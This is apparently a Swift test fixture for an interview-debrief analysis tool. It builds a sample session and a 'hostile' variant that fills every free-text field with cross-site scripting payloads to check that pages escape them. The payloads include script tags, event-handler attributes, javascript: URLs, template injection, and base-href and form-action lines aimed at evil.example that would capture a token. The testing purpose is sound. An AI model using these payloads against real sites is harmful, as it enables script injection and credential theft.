import Foundation
import PatternModel
import PatternTraining
import PatternVerdicts

@testable import PatternSession

/// A session over a quarter's debriefs, made once: half of it is older than the model in use.
enum SampleSession {
  private static let folder = #filePath.split(separator: "/").dropLast(3).reduce("") { $0 + "/" + $1 }

  /// Quick to train, and honest all the same.
  static func options() throws -> TrainingOptions { try TrainingOptions(foldCount: 4, penalty: 1) }

  static func debriefs() throws -> [Debrief] {
    try DebriefCollection.read(paths: [folder + "/data/debriefs-2024Q1.csv"], purpose: .training).debriefs
  }

  static let data = Result { try session(try debriefs()) }

  /// The same with text in every free field that would run if a page let it.
  static let hostile = Result {
    var debriefs = try SampleSession.debriefs()
    for place in debriefs.indices {
      let text = Hostile.texts[place % Hostile.texts.count]
      debriefs[place].id += text
      debriefs[place].candidate += text
      debriefs[place].interviewer = (debriefs[place].interviewer ?? "") + text
      debriefs[place].notes += " " + text
      debriefs[place].criterionNotes = Criterion.allCases.map { _ in text }
      debriefs[place].level = .other("l" + text)
      debriefs[place].role = .other("r" + text)
      debriefs[place].prompt = .other("p" + text)
    }
    return try session(debriefs)
  }

  private static func session(_ debriefs: [Debrief]) throws -> SessionData {
    let days = debriefs.compactMap(\.date).sorted()
    let middle = days[days.count / 2]
    let model = try Trainer(options: options(), words: .shipped()).train(
      debriefs.filter { $0.date.map { $0 <= middle } ?? false }
    ).model
    return try SessionData(debriefs: debriefs, model: model, options: options(), words: .shipped())
  }

  /// Runs `body` with a site that records into a new file.
  static func withSite<Result>(
    _ data: SessionData, _ body: (SessionSite, VerdictStore) throws -> Result
  ) throws -> Result {
    let folder = NSTemporaryDirectory() + "session-\(UUID().uuidString)"
    try FileManager.default.createDirectory(atPath: folder, withIntermediateDirectories: true)
    defer { try? FileManager.default.removeItem(atPath: folder) }
    let store = try VerdictStore.writing(path: folder + "/v.sqlite")
    return try body(SessionSite(data: data, log: SessionLog(session: "2026-Q4", store: store)), store)
  }
}

/// Texts that are harmless on a page that shows text as text.
enum Hostile {
  static let texts = [
    "<script>window.pwned=1</script>", "\"><img src=x onerror=window.pwned=1>", "' autofocus onfocus='window.pwned=1",
    "<svg onload=window.pwned=1>", "javascript:window.pwned=1",
    "</textarea></title></style><script>window.pwned=1</script>",
    "<a href=\"javascript:window.pwned=1\">x</a>", "\u{202E}<b>turned</b>\u{0}\u{7}",
    "{{constructor.constructor('pwned')()}}",
    "<style>*{background:url(//evil.example/)}</style>", "&lt;script&gt;&#60;b&#62;", "<!--", "]]>",
    "<base href=//evil.example>",
    "<form action=//evil.example><input name=token>", "expression(window.pwned=1);url(javascript:window.pwned=1)",
  ]

  /// What of a text would be markup or an attribute if it stood on a page as it is.
  static func isRaw(_ text: String, in page: String) -> Bool {
    text.contains { "<>\"'".contains($0) } && page.contains(text)
  }
}
